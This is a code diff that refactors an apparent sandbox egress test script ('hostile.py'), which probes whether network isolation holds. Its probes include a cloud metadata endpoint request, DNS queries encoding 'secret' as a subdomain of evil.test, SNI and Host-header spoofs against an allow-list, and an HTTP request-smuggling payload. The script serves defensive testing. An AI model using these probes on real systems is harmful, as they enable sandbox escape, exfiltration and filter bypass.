@@ -7,6 +7,7 @@ Usage: hostile.py SETTINGS.json [TRY...]
 import ctypes
 import errno
 import fcntl
+import functools
 import http.client
 import json
 import mmap
@@ -34,6 +35,11 @@ TRIES = {}
 def attempt(function):
     TRIES[function.__name__] = function
     return function
+
+def attempts(function, **all):
+    """One try with different arguments, each of which has a name."""
+    for name, arguments in all.items():
+        TRIES[name] = functools.partial(function, *arguments)
 
 
 def call(number, *arguments):
@@ -93,57 +99,26 @@ def echoes(address, port=None):
 
 # Sockets.
 
-@attempt
-def tcp_loopback():
-    return says("127.0.0.1")
+attempts(
+    says,
+    tcp_loopback=("127.0.0.1",),
+    tcp_loopback_v6=("::1", SETTINGS["tcp6"]),
+    tcp_host_address=(HOST,),
+    tcp_mapped_address=("::ffff:127.0.0.1",),
+    tcp_other_loopback=("127.8.9.1",),
+    tcp_unspecified=("0.0.0.0",),
+    tcp_bound_to_host_address=(HOST, None, None, HOST),
+    tcp_public_other_port=("192.0.2.1", 9),
+    tcp_gateway_metadata=("169.254.169.254", 80),
+)
 
-@attempt
-def tcp_loopback_v6():
-    return says("::1", SETTINGS["tcp6"])
-
-@attempt
-def tcp_host_address():
-    return says(HOST)
-
-@attempt
-def tcp_mapped_address():
-    return says("::ffff:127.0.0.1")
-
-@attempt
-def tcp_other_loopback():
-    return says("127.8.9.1")
-
-@attempt
-def tcp_unspecified():
-    return says("0.0.0.0")
-
-@attempt
-def tcp_bound_to_host_address():
-    return says(HOST, source=HOST)
-
-@attempt
-def tcp_public_other_port():
-    return says("192.0.2.1", 9)
-
-@attempt
-def tcp_gateway_metadata():
-    return says("169.254.169.254", 80)
-
-@attempt
-def udp_loopback():
-    return echoes("127.0.0.1")
-
-@attempt
-def udp_host_address():
-    return echoes(HOST)
-
-@attempt
-def udp_v6():
-    return echoes("::1", SETTINGS["udp6"])
-
-@attempt
-def udp_quic():
-    return echoes(HOST, 443)
+attempts(
+    echoes,
+    udp_loopback=("127.0.0.1",),
+    udp_host_address=(HOST,),
+    udp_v6=("::1", SETTINGS["udp6"]),
+    udp_quic=(HOST, 443),
+)
 
 @attempt
 def raw_v4():
@@ -203,29 +178,15 @@ def says_at(path):
     stream.connect(path)
     return outside(stream.recv(64))
 
-@attempt
-def path_socket_in_tmp():
-    return says_at(SETTINGS["path_in_tmp"])
-
-@attempt
-def path_socket_elsewhere():
-    return says_at(SETTINGS["path_elsewhere"])
-
-@attempt
-def path_socket_with_another_name():
-    return says_at("below/renamed")
-
-@attempt
-def path_socket_of_a_relative_path():
-    return says_at("relative")
-
-@attempt
-def path_socket_by_another_mount():
-    return says_at("other/socket")
-
-@attempt
-def path_socket_of_another_network():
-    return says_at("networked")
+attempts(
+    says_at,
+    path_socket_in_tmp=(SETTINGS["path_in_tmp"],),
+    path_socket_elsewhere=(SETTINGS["path_elsewhere"],),
+    path_socket_with_another_name=("below/renamed",),
+    path_socket_of_a_relative_path=("relative",),
+    path_socket_by_another_mount=("other/socket",),
+    path_socket_of_another_network=("networked",),
+)
 
 @attempt
 def inherited_descriptor():
@@ -259,35 +220,27 @@ def ask(name, kind, server="9.9.9.9"):
 
 NXDOMAIN = 3
 
-@attempt
-def dns_other_name():
-    got = ask("c2VjcmV0.evil.test", 1)
+def is_known(*question):
+    got = ask(*question)
     return got if got != (NXDOMAIN, 0) else None
 
-@attempt
-def dns_other_name_v6():
-    got = ask("c2VjcmV0.evil.test", 1, "2001:db8::53")
-    return got if got != (NXDOMAIN, 0) else None
+attempts(
+    is_known,
+    dns_other_name=("c2VjcmV0.evil.test", 1),
+    dns_other_name_v6=("c2VjcmV0.evil.test", 1, "2001:db8::53"),
+    dns_below_listed_name=("c2VjcmV0.app.test", 1),
+)
 
-@attempt
-def dns_below_listed_name():
-    got = ask("c2VjcmV0.app.test", 1)
-    return got if got != (NXDOMAIN, 0) else None
-
-@attempt
-def dns_text_of_listed_name():
-    got = ask("app.test", 16)
+def has_records(*question):
+    got = ask(*question)
     return got if got[1] else None
 
-@attempt
-def dns_https_of_listed_name():
-    got = ask("app.test", 65)
-    return got if got[1] else None
-
-@attempt
-def dns_any_of_other_name():
-    got = ask("evil.test", 255)
-    return got if got[1] else None
+attempts(
+    has_records,
+    dns_text_of_listed_name=("app.test", 16),
+    dns_https_of_listed_name=("app.test", 65),
+    dns_any_of_other_name=("evil.test", 255),
+)
 
 @attempt
 def dns_by_tcp():
@@ -331,33 +284,19 @@ def answer(pieces, address="app.test"):
     said = stream.recv(64)
     return said if said[:1] == b"\x16" else None
 
-@attempt
-def sni_of_other_name():
-    return handshake("other.test")
+attempts(
+    handshake,
+    sni_of_other_name=("other.test",),
+    sni_missing=(None,),
+    sni_below_listed_name=("c2VjcmV0.app.test",),
+    sni_ends_as_listed_name=("evilapp.test",),
+    sni_of_private_address=("inner.test",),
+    sni_of_mixed_addresses=("mixed.test",),
+)
 
 @attempt
 def sni_of_other_name_at_any_address():
     return handshake("other.test", address=HOST)
-
-@attempt
-def sni_missing():
-    return handshake(None)
-
-@attempt
-def sni_below_listed_name():
-    return handshake("c2VjcmV0.app.test")
-
-@attempt
-def sni_ends_as_listed_name():
-    return handshake("evilapp.test")
-
-@attempt
-def sni_of_private_address():
-    return handshake("inner.test")
-
-@attempt
-def sni_of_mixed_addresses():
-    return handshake("mixed.test")
 
 @attempt
 def hello_in_pieces():
@@ -416,34 +355,17 @@ def status(request, port=None):
     said = stream.recv(256)
     return said if said.startswith(b"HTTP/1.1 200") else None
 
-@attempt
-def http_host_of_other_name():
-    return status(b"GET / HTTP/1.1\r\nHost: other.test\r\n\r\n")
-
-@attempt
-def http_without_host():
-    return status(b"GET / HTTP/1.0\r\n\r\n")
-
-@attempt
-def http_two_hosts():
-    return status(b"GET / HTTP/1.1\r\nHost: app.test\r\nHost: other.test\r\n\r\n")
-
-@attempt
-def http_url_of_other_name():
-    return status(b"GET http://other.test:%d/ HTTP/1.1\r\nHost: app.test\r\n\r\n" % PLAIN)
-
-@attempt
-def http_other_port():
-    return status(b"GET / HTTP/1.1\r\nHost: app.test:%d\r\n\r\n" % PORT)
-
-@attempt
-def http_private_name():
-    return status(b"GET / HTTP/1.1\r\nHost: inner.test\r\n\r\n")
-
-@attempt
-def http_smuggled():
-    return status(b"GET / HTTP/1.1\r\nHost: app.test\r\nContent-Length: 4\r\n"
-                  b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\nHost: other.test\r\n\r\n")
+attempts(
+    status,
+    http_host_of_other_name=(b"GET / HTTP/1.1\r\nHost: other.test\r\n\r\n",),
+    http_without_host=(b"GET / HTTP/1.0\r\n\r\n",),
+    http_two_hosts=(b"GET / HTTP/1.1\r\nHost: app.test\r\nHost: other.test\r\n\r\n",),
+    http_url_of_other_name=(b"GET http://other.test:%d/ HTTP/1.1\r\nHost: app.test\r\n\r\n" % PLAIN,),
+    http_other_port=(b"GET / HTTP/1.1\r\nHost: app.test:%d\r\n\r\n" % PORT,),
+    http_private_name=(b"GET / HTTP/1.1\r\nHost: inner.test\r\n\r\n",),
+    http_smuggled=(b"GET / HTTP/1.1\r\nHost: app.test\r\nContent-Length: 4\r\n"
+                  b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\nHost: other.test\r\n\r\n",),
+)
 
 @attempt
 def http_second_request():
